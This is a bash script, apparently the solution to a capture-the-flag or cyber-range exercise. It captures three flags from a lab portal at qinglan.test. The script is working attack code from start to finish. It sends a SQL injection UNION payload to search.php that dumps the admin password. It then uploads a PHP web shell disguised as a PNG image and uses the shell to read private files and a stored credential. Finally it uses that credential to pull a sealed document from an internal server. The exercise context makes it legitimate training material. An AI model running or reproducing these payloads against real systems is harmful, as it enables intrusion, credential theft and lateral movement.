# Takes all three flags from the attack workstation, with curl only. Paste it into red's terminal, or run it there.
# Prints three lines: FLAG portal-db RMP{…}, FLAG www-file RMP{…}, FLAG doc-sealed RMP{…}.
(
  set -u
  site=http://www.qinglan.test
  jar=$(mktemp); shell=$(mktemp)
  trap 'rm -f "$jar" "$shell"' EXIT
  stop() { echo "red: $*" >&2; exit 1; }
  flag() { grep -oE 'RMP\{[0-9a-f]{32}\}' | head -n 1; }

  # 1. The search puts its input straight into SQL: read the staff table (T1190).
  row=$(curl -sS -m 10 --get --data-urlencode "q=zzqx' UNION SELECT 1,CONCAT('<<',login,'|',password,'|',note,'>>'),3,4 FROM staff WHERE login='admin' -- " "$site/search.php")
  row=$(sed -nE 's/.*&lt;&lt;(admin\|.*)&gt;&gt;.*/\1/p' <<<"$row" | head -n 1)
  password=$(cut -d '|' -f 2 <<<"$row")
  portal=$(flag <<<"$row")
  [ -n "$portal" ] && [ -n "$password" ] || stop "the search gave no row of staff"
  echo "FLAG portal-db $portal"

  # 2. Log in to the back office and upload a program that calls itself a picture (T1505.003).
  curl -sS -m 10 -o /dev/null -c "$jar" "$site/admin/"
  curl -sS -m 10 -o /dev/null -L -b "$jar" -c "$jar" --data-urlencode 'login=admin' --data-urlencode "password=$password" "$site/admin/"
  name=photo-$RANDOM$RANDOM.php
  printf '<?php system($_POST["c"]);' >"$shell"
  page=$(curl -sS -m 10 -b "$jar" -F 'news=0' -F "file=@$shell;filename=$name;type=image/png" "$site/admin/")
  grep -q "/uploads/$name" <<<"$page" || stop "the upload was refused"
  run() { curl -sS -m 15 --data-urlencode "c=$1" "$site/uploads/$name"; }
  memo=$(run 'cat /srv/portal/private/notice.txt' | flag)
  [ -n "$memo" ] || stop "no flag in the memo"
  echo "FLAG www-file $memo"

  # 3. The portal's account for the document system lies in a file; ask the document system from the portal host (T1213).
  ini=$(run 'cat /srv/portal/private/doc.ini')
  user=$(sed -nE 's/^user *= *(.*)$/\1/p' <<<"$ini"); key=$(sed -nE 's/^password *= *(.*)$/\1/p' <<<"$ini")
  sealed=$(run "curl -sS -m 10 -u '$user:$key' http://doc.qinglan.test:8080/documents/115-0042" | flag)
  [ -n "$sealed" ] || stop "no flag in the sealed document"
  echo "FLAG doc-sealed $sealed"
  run "rm -f /srv/portal/www/uploads/$name" >/dev/null
)
